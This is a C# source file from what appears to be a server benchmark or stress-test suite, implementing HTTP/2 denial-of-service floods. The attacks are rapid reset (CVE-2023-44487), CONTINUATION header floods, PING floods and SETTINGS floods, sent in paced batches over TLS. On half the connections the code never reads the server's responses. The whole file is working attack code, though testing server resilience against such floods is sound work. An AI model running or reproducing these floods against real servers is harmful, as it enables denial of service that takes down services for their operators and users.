// SPDX-License-Identifier: Apache-2.0
using System.Net.Security;

namespace Sealock.Bench.Hostile.Attacks;

/// <summary>
/// HTTP/2 connections that send frames which are cheap for the client, and not for every server. On every other connection nobody
/// reads what the server answers.
/// </summary>
internal sealed class Floods(string name, string title, string unit, Strength strength, Floods.Wave wave)
    : Attack(name, title, unit, strength)
{
    private const int Batch = 20;

    /// <summary>What is sent at once.</summary>
    /// <param name="victim">To whom.</param>
    /// <param name="connection">The number of the connection.</param>
    /// <param name="stream">The first stream that was not used yet; the batch may use as many as it counts.</param>
    /// <param name="first">Whether it is the first batch of its connection.</param>
    /// <param name="count">What it is to hold so many of.</param>
    internal delegate Frames Wave(Victim victim, int connection, int stream, bool first, int count);

    public override double OpenedPerSecond => 50;

    /// <summary>Streams that are reset at once (CVE-2023-44487).</summary>
    public static Floods RapidReset(Strength strength) => new("rapid-reset", "HTTP/2 rapid reset", "streams", strength, (victim, _, stream, _, count) =>
    {
        var frames = new Frames();
        var block = Frames.Block("GET", victim.Path, victim.Token);
        for (var i = 0; i < count; i++)
            frames.Request(stream + (2 * i), block).Reset(stream + (2 * i));
        return frames;
    });

    /// <summary>Headers that go on in frames without an end; every other connection sends empty ones.</summary>
    public static Floods Continuation(Strength strength) => new("continuation", "HTTP/2 CONTINUATION", "frames", strength, (victim, connection, _, first, count) =>
    {
        var frames = new Frames();
        if (first)
            frames.BeginRequest(1, Frames.Block("GET", victim.Path, victim.Token));
        var block = connection % 4 < 2 ? [] : Frames.Header("x-more", new string('x', 500));
        for (var i = 0; i < count; i++)
            frames.Continuation(1, block);
        return frames;
    });

    public static Floods Pings(Strength strength) => new("pings", "HTTP/2 PING", "frames", strength, (_, _, _, _, count) =>
        Repeat(count, frames => frames.Ping()));

    public static Floods Settings(Strength strength) => new("settings", "HTTP/2 SETTINGS", "frames", strength, (_, _, _, _, count) =>
        Repeat(count, frames => frames.Settings(65535)));

    protected override async Task AttackAsync(Victim victim, int number, Pacer pacer, Tally tally, CancellationToken cancellationToken)
    {
        await using var stream = await victim.ConnectTlsAsync(SslApplicationProtocol.Http2, cancellationToken);
        tally.Connected();
        await stream.WriteAsync(Frames.Preface().Bytes, cancellationToken);
        var reading = number % 2 == 0 ? stream.CopyToAsync(Stream.Null, cancellationToken) : new TaskCompletionSource().Task;
        try
        {
            for (var next = 1; !reading.IsCompleted; next += 2 * Batch)
            {
                await pacer.WaitAsync(Batch, cancellationToken);
                await stream.WriteAsync(wave(victim, number, next, next == 1, Batch).Bytes, cancellationToken);
                tally.Did(Batch);
            }
        }
        finally
        {
            _ = reading.ContinueWith(static read => read.Exception, CancellationToken.None, TaskContinuationOptions.OnlyOnFaulted, TaskScheduler.Default);
        }
    }

    private static Frames Repeat(int count, Action<Frames> add)
    {
        var frames = new Frames();
        for (var i = 0; i < count; i++)
            add(frames);
        return frames;
    }
}
